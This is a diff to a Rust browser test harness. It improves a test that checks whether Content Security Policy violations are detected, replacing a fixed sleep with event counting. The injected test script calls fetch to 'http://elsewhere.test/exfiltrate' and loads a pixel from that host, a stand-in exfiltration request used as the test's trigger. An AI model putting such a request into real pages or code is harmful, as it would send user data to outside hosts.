@@ -23,6 +23,7 @@
 
 #![cfg(not(target_arch = "wasm32"))]
 
+mod accessibility;
 mod big_har;
 mod exports;
 mod fixtures;
@@ -325,13 +326,20 @@ async fn harness_detects_csp_violations() {
             page.open().await?;
             page.client()
                 .execute(
-                    "fetch('http://elsewhere.test/exfiltrate').catch(() => {}); \
+                    "window.__violations = 0; \
+                     document.addEventListener('securitypolicyviolation', () => { window.__violations += 1; }); \
+                     fetch('http://elsewhere.test/exfiltrate').catch(() => {}); \
                      new Image().src = 'http://elsewhere.test/pixel.png';",
                     vec![],
                 )
                 .await?;
-            // Give the browser a moment to report the violations.
-            tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+            // The browser has reported both violations (and logged them with them).
+            page.wait_until(
+                "two CSP violations reported",
+                "return window.__violations >= 2;",
+                vec![],
+            )
+            .await?;
             Ok(())
         },
         |evidence| {
